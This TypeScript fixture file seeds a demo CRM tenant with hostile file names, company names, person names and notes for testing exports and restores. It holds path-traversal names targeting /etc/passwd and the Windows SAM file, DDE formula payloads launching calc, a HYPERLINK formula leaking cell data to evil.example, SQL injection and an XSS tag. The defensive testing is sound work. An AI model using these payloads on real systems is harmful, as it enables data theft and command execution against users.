/**
 * Hostile cases planted ON PURPOSE in the demo fleet, so that exports, archives,
 * screens and restore checks meet them every day rather than first in production
 * (EXPORT.md "Bad inputs and what each gets").
 *
 * Where they are (see DEMO_TRAPS in tenant-profile.ts):
 *
 * Tenant index 0 (t-000001), the hostile tenant:
 * - files: every name in HOSTILE_FILE_NAMES (`../`, `..\`, absolute paths, NUL and
 *   control characters, NFC and NFD forms of the same name on one owner, emoji,
 *   a 300-character name, Windows device names, trailing dots and spaces, duplicate
 *   and case-only-different names on one owner, formula-like names, RTL override);
 * - companies named HOSTILE_COMPANY_NAMES (cells starting with `= + - @`, TAB,
 *   full-width `＝`, quotes, commas, newlines, C0 controls);
 * - persons HOSTILE_PERSONS (NFC "Zoë Müller" and NFD "Zoë Müller" as two people,
 *   formula-like and quoted names, emoji);
 * - activities with bodies from HOSTILE_NOTES, including LONG_NOTE (over 40,000
 *   characters; a surrogate pair straddles UTF-16 unit 32,767, where XLSX must cut)
 *   and U+FFFE/U+FFFF;
 * - custom field values starting with `=`, IDs over 15 digits and leading zeros.
 *
 * Tenant index 1 (t-000002), the integrity tenant:
 * - file id 3: its row is complete but its object was never written (missing);
 * - file id 5: its object has the recorded size but one byte flipped (SHA-256 mismatch);
 * - persons 2 and 7 point at a company that was deleted (dangling references).
 *
 * Every tenant: phone numbers starting with '+', notes starting with '-' or '@',
 * postcodes with leading zeros, apostrophes and quotes in names, Unicode names.
 */

const THREE_HUNDRED = (() => {
  // Exactly 300 UTF-16 units and characters; multi-byte letters so a byte cap must not split a character.
  const ext = '.pdf';
  const stem = 'Årsredovisning och förvaltningsberättelse för räkenskapsåret — bilaga ';
  let s = '';
  while (s.length < 300 - ext.length) s += stem;
  return s.slice(0, 300 - ext.length) + ext;
})();

/** File names as uploaded: never to be used as a path. Several share one owner (see `sameOwner`). */
export const HOSTILE_FILE_NAMES: readonly { name: string; mime: string; sameOwner?: boolean }[] = [
  { name: '../../etc/passwd', mime: 'text/plain' },
  { name: '..\\..\\Windows\\System32\\config\\SAM', mime: 'application/octet-stream' },
  { name: '/etc/passwd', mime: 'text/plain' },
  { name: 'C:\\Users\\Public\\Desktop\\invoice.pdf', mime: 'application/pdf' },
  { name: 'a/../../../escape.txt', mime: 'text/plain' },
  { name: '..', mime: 'application/octet-stream' },
  { name: 'report\u0000.pdf.exe', mime: 'application/octet-stream' },
  { name: 'line\nbreak\tand\rbell\u0007escape\u001b.txt', mime: 'text/plain' },
  { name: 'Café – Übersicht.pdf', mime: 'application/pdf', sameOwner: true },
  { name: 'Cafe\u0301 – U\u0308bersicht.pdf', mime: 'application/pdf', sameOwner: true },
  { name: '📎 Vertrag 🤝 final 🎉.pdf', mime: 'application/pdf' },
  { name: THREE_HUNDRED, mime: 'application/pdf' },
  { name: 'CON.txt', mime: 'text/plain' },
  { name: 'aux', mime: 'application/octet-stream' },
  { name: 'PRN.pdf', mime: 'application/pdf' },
  { name: 'com1.log', mime: 'text/plain' },
  { name: 'LPT1.csv', mime: 'text/csv' },
  { name: 'invoice.pdf...', mime: 'application/pdf' },
  { name: 'notes.txt   ', mime: 'text/plain' },
  { name: 'trailing dot.', mime: 'application/octet-stream' },
  { name: 'contract.pdf', mime: 'application/pdf', sameOwner: true },
  { name: 'contract.pdf', mime: 'application/pdf', sameOwner: true },
  { name: 'contract.pdf', mime: 'application/pdf', sameOwner: true },
  { name: 'Contract.PDF', mime: 'application/pdf', sameOwner: true },
  { name: '=HYPERLINK("http://evil.example/x","click me").csv', mime: 'text/csv' },
  { name: "+cmd|' /C calc'!A0.xlsx", mime: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet' },
  { name: '@SUM(1+1)*cmd.txt', mime: 'text/plain' },
  { name: '-2+3.csv', mime: 'text/csv' },
  { name: 'a:b*c?d"e<f>g|h.txt', mime: 'text/plain' },
  { name: 'invoice\u202Efdp.exe', mime: 'application/octet-stream' },
  { name: '.htaccess', mime: 'text/plain' },
  { name: '', mime: 'application/octet-stream' },
  { name: 'Offert, "slutlig" version\n2.docx', mime: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document' },
];

export const HOSTILE_COMPANY_NAMES: readonly string[] = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for invoice")',
  '+49 Holdings GmbH',
  '-Minus Consulting AB',
  '@Handle Media Ltd',
  '＝Fullwidth Equals KK',
  '\tTab Leading GmbH',
  '\rCarriage Return Ltd',
  'Smith, Jones & "Partners" LLP',
  'Multi\nLine\r\nName Ltd',
  'Bell\u0007 and Escape\u001b ApS',
  '"; DROP TABLE companies; --',
  '<script>alert("x")</script> SAS',
  'Ørsted & Müller — Łódź 山田 🚀 A/S',
];

export const HOSTILE_PERSONS: readonly { first: string; last: string }[] = [
  { first: 'Zoë', last: 'Müller' }, // NFC
  { first: 'Zoe\u0308', last: 'Mu\u0308ller' }, // the same, NFD: a different string that looks identical
  { first: '=1+1', last: 'Formula' },
  { first: '+46', last: '@Mention' },
  { first: '-Dash', last: "O'Brien, \"Junior\"" },
  { first: 'Émoji 😀', last: '👩‍💻 Developer' },
  { first: 'Null\u0000Byte', last: 'Control\u0001Char' },
];

/** Over 40,000 characters; the UTF-16 units 32,766–32,767 are one emoji (a surrogate pair). */
export const LONG_NOTE: string = (() => {
  const para =
    'Meeting notes, part of a very long import from the old CRM: "quotes", commas, ; semicolons, tabs\tand\nnewlines, ' +
    'Umlaute äöü ß, Łódź, 山田さん, Ørsted, formula-like =SUM(A1:A9) in the middle. ';
  let s = '';
  while (s.length < 32_766) s += para;
  s = s.slice(0, 32_766) + '😀';
  while (s.length < 41_000) s += para;
  return s;
})();

export const HOSTILE_NOTES: readonly string[] = [
  LONG_NOTE,
  '=cmd|\' /C calc\'!A0',
  '+SUM(1,2)',
  '-1-1',
  '@import url(evil.css)',
  '\t=indented formula',
  'Non-characters \uFFFE and \uFFFF in the middle',
  'Zero-width\u200Bspace and RTL \u202Eoverride\u202C text',
  '"Quoted, with commas", and a\r\nCRLF line and a lone \r carriage return',
];

/** Custom field values an import might carry: formulas, long digit strings, leading zeros. */
export const HOSTILE_FIELD_TEXTS: readonly string[] = ['=cmd|\' /C calc\'!A0', '12345678901234567890', '00012345', '+1-555-0100', '@everyone', '-0'];
